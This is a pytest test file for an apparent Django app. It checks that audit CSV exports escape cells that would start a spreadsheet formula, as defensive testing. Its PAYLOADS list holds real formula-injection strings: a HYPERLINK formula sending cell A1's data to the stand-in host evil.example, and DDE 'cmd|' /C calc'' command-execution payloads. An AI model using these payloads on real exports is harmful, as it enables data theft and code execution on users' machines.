"""Exports open safely in a spreadsheet: no cell a reviewer downloads can start a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from studio.csv_export import safe_cell
from studio.models import Role
from tests.factories import make_policy, make_user, make_variant

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\uff1dHYPERLINK(\"https://evil.example\")",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_comment_that_looks_like_a_formula_is_text_in_the_audit_export(client, brand,
                                                                         payload):
    make_policy(brand)
    author = make_user(brand=brand, roles=(Role.COPYWRITER,), username="@evil")
    variant = make_variant(brand, author=author)
    client.force_login(author)
    client.post(reverse("studio:comment-variant", args=[brand.slug, variant.pk]),
                {"body": payload})
    export = client.get(reverse("studio:audit-csv", args=[brand.slug]))
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    header, events = rows[0], rows[1:]
    commented = next(dict(zip(header, row, strict=True)) for row in events
                     if row[header.index("action")] == "commented")
    assert commented["reason"].startswith("'") and commented["reason"][1:].strip() != ""
    assert commented["actor"] == "'@evil"
    for row in events:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))


@pytest.mark.parametrize(("value", "safe"), [
    ("hello", "hello"), ("a=b", "a=b"), ("-", "'-"), ("=1", "'=1"), ("", ""),
    (7, 7), (-3, -3), (None, None), ("2026-12-05T10:00:00+00:00", "2026-12-05T10:00:00+00:00"),
])
def test_safe_cell_touches_only_text_that_would_start_a_formula(value, safe):
    assert safe_cell(value) == safe
